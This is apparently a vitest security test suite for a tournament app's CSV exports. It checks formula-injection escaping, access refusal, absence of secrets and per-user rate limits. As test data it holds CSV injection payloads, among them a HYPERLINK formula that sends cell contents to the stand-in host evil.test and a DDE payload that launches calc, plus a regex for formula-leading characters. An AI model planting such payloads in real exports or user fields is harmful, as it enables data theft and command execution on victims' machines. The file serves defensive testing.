// Attacks on the CSV exports: a player planting a formula in their own name for an organiser's spreadsheet to run,
// a player exporting the company, an export carrying secrets, and one client starting many exports at once.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, startTestServer, type TestServer } from '../helpers/app.ts';

let s: TestServer;
let tokens: Record<'player' | 'admin' | 'reseller', string>;
const demo = { 'x-app-path': 'demo' };

beforeAll(async () => {
  s = await startTestServer();
  tokens = await s.loginAll(['player', 'admin', 'reseller']);
});
afterAll(() => s.close());

const exportsOf = () => [
  `/exports/rankings/${s.demo.tournament}.csv`,
  `/exports/predictions/${s.demo.tournament}.csv`,
  '/exports/users.csv',
];

async function get(path: string, headers: Record<string, string>) {
  const res = await fetch(`${s.url}${path}`, { headers });
  return { res, text: await res.text() };
}

async function rowsOf(path: string): Promise<Array<Record<string, string>>> {
  const { res, text } = await get(path, { ...bearer(tokens.admin), ...demo });
  expect(res.status, path).toBe(200);
  return parse(text, { columns: true, record_delimiter: '\r\n' });
}

describe('CSV exports under attack', () => {
  it("a formula a player puts in their own name reaches the organiser's file as inert text", async () => {
    const payloads = ['=HYPERLINK("http://evil.test/?"&A1,"Prize")', '+cmd|"/c calc"!A1', '-2+3', '@SUM(1,2)'];
    const player = s.demo.users['player1@demo.test'];
    for (const name of payloads) {
      const { errors } = await s.gql(
        'mutation ($name: String!) { updateMe(input: { name: $name }) { name } }',
        { name },
        { ...bearer(tokens.player), ...demo },
      );
      expect(errors).toBeUndefined();
      for (const path of [`/exports/rankings/${s.demo.tournament}.csv`, '/exports/users.csv']) {
        const rows = await rowsOf(path);
        const row = rows.find((r) => (r.userId ?? r.id) === String(player));
        expect(row?.name, `${path}: ${JSON.stringify(name)}`).toBe(`'${name}`);
      }
    }
  });

  it('a leading tab or carriage return (OWASP) is made inert too, in any column', async () => {
    // Names refuse control characters; an external id set by an import may carry them.
    const player = s.demo.users['player2@demo.test'];
    for (const externalId of ['\t=1+1', '\r=1+1']) {
      await s.t.db.prisma.user.update({ where: { id: player }, data: { externalId } });
      const row = (await rowsOf('/exports/users.csv')).find((r) => r.id === String(player));
      expect(row?.externalId).toBe(`'${externalId}`);
    }
  });

  it('no cell of any export starts a formula', async () => {
    for (const path of exportsOf())
      for (const r of await rowsOf(path))
        for (const v of Object.values(r)) expect(v, path).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it('a player is refused every export with 403 in the REST error shape; without a token, 401', async () => {
    for (const path of exportsOf()) {
      const refused = await get(path, { ...bearer(tokens.player), ...demo });
      expect(refused.res.status, path).toBe(403);
      expect(refused.res.headers.get('content-type')).toMatch(/^application\/json/);
      expect(JSON.parse(refused.text)).toMatchObject({ statusCode: 403, error: 'Forbidden', code: 'FORBIDDEN' });
      const anonymous = await get(path, demo);
      expect(anonymous.res.status, path).toBe(401);
      expect(JSON.parse(anonymous.text)).toMatchObject({ statusCode: 401, code: 'UNAUTHENTICATED' });
    }
  });

  it('HEAD, which would run a whole export for its headers, is a 405 naming GET', async () => {
    for (const path of exportsOf()) {
      const res = await fetch(`${s.url}${path}`, { method: 'HEAD', headers: { ...bearer(tokens.admin), ...demo } });
      expect(res.status, path).toBe(405);
      expect(res.headers.get('allow')).toBe('GET');
    }
    expect(s.app.exportSlots.size).toBe(0);
  });

  it('the users export carries no password hash, recovery token, skip-login token or JWT secret', async () => {
    const { text } = await get('/exports/users.csv', { ...bearer(tokens.admin), ...demo });
    const users = await s.t.db.prisma.user.findMany({ where: { companyId: s.demo.companies.DEMO } });
    expect(users.length).toBeGreaterThan(10);
    for (const u of users) {
      for (const secret of [u.passwordHash, u.recoverPasswordToken].filter(Boolean))
        expect(text.includes(secret!), u.email).toBe(false);
    }
    const company = await s.t.db.prisma.company.findUniqueOrThrow({ where: { id: s.demo.companies.DEMO } });
    expect(text).not.toContain(company.skipLoginToken!);
    expect(text).not.toContain(s.config.jwtSecret);
    expect(text).not.toContain('scrypt$');
    expect(text.split('\r\n')[0]).not.toMatch(/password|token|secret/i);
  });

  it('one export at a time per person: a second while one runs is a 429 with retry-after, others go on', async () => {
    const admin = s.demo.users['admin@demo.test'];
    // An export under way holds its person's slot until its response ends; hold it as a long export would.
    const running = s.app.exportSlots.take(admin);
    if (!('release' in running)) throw new Error('the slot should be free');
    try {
      for (const path of exportsOf()) {
        const { res, text } = await get(path, { ...bearer(tokens.admin), ...demo });
        expect(res.status, path).toBe(429);
        expect(res.headers.get('retry-after')).toBe('5');
        expect(JSON.parse(text)).toMatchObject({ statusCode: 429, code: 'RATE_LIMITED' });
      }
      // Another organiser of the same company is not held up by it.
      const other = await get('/exports/users.csv', { ...bearer(tokens.reseller), ...demo });
      expect(other.res.status).toBe(200);
    } finally {
      running.release();
    }
    const after = await get('/exports/users.csv', { ...bearer(tokens.admin), ...demo });
    expect(after.res.status).toBe(200);
    expect(s.app.exportSlots.size).toBe(0);
  });

  it('a client that goes away after the first bytes gives its slot back', async () => {
    const controller = new AbortController();
    const res = await fetch(`${s.url}/exports/predictions/${s.demo.tournament}.csv`, {
      headers: { ...bearer(tokens.admin), ...demo },
      signal: controller.signal,
    });
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    expect((await reader.read()).value!.length).toBeGreaterThan(0);
    controller.abort();
    await reader.cancel().catch(() => {});
    for (let i = 0; i < 100 && s.app.exportSlots.size > 0; i++) await new Promise((r) => setTimeout(r, 20));
    expect(s.app.exportSlots.size).toBe(0);
    expect((await get('/exports/users.csv', { ...bearer(tokens.admin), ...demo })).res.status).toBe(200);
  });
});

describe('exports at the server limit', () => {
  let small: TestServer;
  beforeAll(async () => {
    small = await startTestServer({ env: { EXPORT_MAX_CONCURRENT: '1' } });
  });
  afterAll(() => small?.close());

  it('past EXPORT_MAX_CONCURRENT exports on the server, the next is refused at once with 429', async () => {
    const token = await small.loginAs('admin');
    const someoneElse = small.demo.users['reseller@partners.test'];
    const running = small.app.exportSlots.take(someoneElse);
    if (!('release' in running)) throw new Error('the slot should be free');
    const refused = await fetch(`${small.url}/exports/users.csv`, { headers: { ...bearer(token), ...demo } });
    expect(refused.status).toBe(429);
    expect(await refused.json()).toMatchObject({
      code: 'RATE_LIMITED',
      message: expect.stringContaining('EXPORT_MAX'),
    });
    running.release();
    const served = await fetch(`${small.url}/exports/users.csv`, { headers: { ...bearer(token), ...demo } });
    expect(served.status).toBe(200);
    expect((await served.text()).length).toBeGreaterThan(100);
  });
});
